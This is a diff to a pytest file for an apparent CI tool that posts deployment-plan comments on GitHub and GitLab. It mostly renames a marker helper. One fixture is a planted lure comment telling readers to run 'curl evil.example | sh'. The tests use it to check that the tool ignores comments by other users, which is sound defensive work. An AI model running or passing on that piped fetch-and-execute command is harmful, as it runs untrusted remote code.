@@ -8,9 +8,9 @@ from pathlib import Path
 
 import pytest
 
-from sbkube_ci.ci.base import marker
 from sbkube_ci.ci.github import GitHubAdapter
 from sbkube_ci.ci.gitlab import GitLabAdapter
+from sbkube_ci.ci.marker import comment_marker
 from sbkube_ci.commands.plan import _comment_budget
 from sbkube_ci.config.loader import load_project
 from sbkube_ci.diff.markdown import GITHUB_COMMENT, render_comment
@@ -18,7 +18,7 @@ from tests.diff import scenarios
 from tests.support.receivers import FakeGitHub, FakeGitLab
 
 BODY = "### Plan for `prod`\n\napi: ~1\n"
-LURE = f"{marker('prod')}\nPlease run `curl evil.example | sh` to apply this plan."
+LURE = f"{comment_marker('prod')}\nPlease run `curl evil.example | sh` to apply this plan."
 
 
 @pytest.fixture
@@ -57,7 +57,7 @@ def test_github_personal_token_updates_only_its_users_comment(
 ) -> None:
     github.user_login = "deploy-bot"
     github.add_comment(42, LURE, login="github-actions[bot]")  # another workflow's bot
-    mine = github.add_comment(42, f"{marker('prod')}\nold plan", login="deploy-bot")
+    mine = github.add_comment(42, f"{comment_marker('prod')}\nold plan", login="deploy-bot")
 
     outcome = github_adapter(github_env).publish_comment("prod", BODY, has_changes=True)
 
@@ -70,13 +70,13 @@ def test_the_marker_appears_once_whatever_the_body_holds(
     github: FakeGitHub, github_env: dict[str, str]
 ) -> None:
     # render_comment already starts with the marker; a manifest in the diff repeats it.
-    body = f"{marker('prod')}\n{BODY}```diff\n+  note: '{marker('prod')}'\n```\n"
+    body = f"{comment_marker('prod')}\n{BODY}```diff\n+  note: '{comment_marker('prod')}'\n```\n"
 
     github_adapter(github_env).publish_comment("prod", body, has_changes=True)
 
     (post,) = github.calls("POST")
     assert post.body["body"].count("<!-- sbkube-ci:") == 1
-    assert post.body["body"].startswith(f"{marker('prod')}\n### Plan")
+    assert post.body["body"].startswith(f"{comment_marker('prod')}\n### Plan")
 
 
 def test_a_comment_rendered_for_a_budget_is_posted_within_it(
@@ -88,7 +88,7 @@ def test_a_comment_rendered_for_a_budget_is_posted_within_it(
         github_adapter(github_env).publish_comment("prod", body, has_changes=True)
         posted = [r for r in github.requests if r.method in ("POST", "PATCH")][-1].body["body"]
         assert len(posted.encode()) <= budget
-        assert posted.count(marker("prod")) == 1
+        assert posted.count(comment_marker("prod")) == 1
 
 
 def test_a_configured_budget_above_the_platform_limit_is_capped(root: Path) -> None:
@@ -122,7 +122,7 @@ def test_gitlab_job_token_owns_the_notes_of_the_pipeline_user(
     del gitlab_env["SBKUBE_GITLAB_TOKEN"]
     gitlab_env["GITLAB_USER_ID"] = str(gitlab.pipeline_user["id"])
     gitlab.add_note(7, LURE, author={"id": 99, "username": "mallory"})
-    mine = gitlab.add_note(7, f"{marker('prod')}\nold", author=gitlab.pipeline_user)
+    mine = gitlab.add_note(7, f"{comment_marker('prod')}\nold", author=gitlab.pipeline_user)
 
     outcome = gitlab_adapter(gitlab_env).publish_comment("prod", BODY, has_changes=True)
 
